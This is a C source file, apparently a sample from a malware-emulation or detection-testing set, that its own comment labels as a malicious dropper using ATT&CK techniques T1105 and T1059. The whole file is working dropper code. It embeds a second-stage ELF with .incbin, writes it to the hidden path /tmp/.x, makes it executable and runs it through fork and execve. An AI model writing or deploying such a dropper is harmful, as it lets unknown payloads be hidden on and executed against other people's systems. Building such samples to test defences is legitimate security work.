/* Malicious: drop and execute (T1105 / T1059). Writes an embedded second-stage ELF to the
 * hidden file /tmp/.x, makes it executable and runs it. */
#include "common.h"
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/wait.h>
extern const unsigned char payload_start[], payload_end[];
__asm__(".section .rodata\n.global payload_start\n.global payload_end\npayload_start:\n"
        ".incbin \"" PAYLOAD_PATH "\"\npayload_end:\n.previous\n");
int main(void) {
  const char *path = "/tmp/.x";
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  if (fd < 0) { WARN("open /tmp/.x"); return 1; }
  size_t len = (size_t)(payload_end - payload_start);
  if (write(fd, payload_start, len) != (ssize_t)len) { WARN("write payload"); return 1; }
  close(fd);
  if (chmod(path, 0755) != 0) { WARN("chmod"); return 1; }
  SAY("dropper: wrote %zu bytes to %s, executing", len, path);
  pid_t pid = fork();
  if (pid == 0) {
    char *argv[] = { (char *)path, NULL };
    char *envp[] = { NULL };
    execve(path, argv, envp);
    WARN("execve /tmp/.x");
    _exit(127);
  }
  int status = 0;
  waitpid(pid, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}
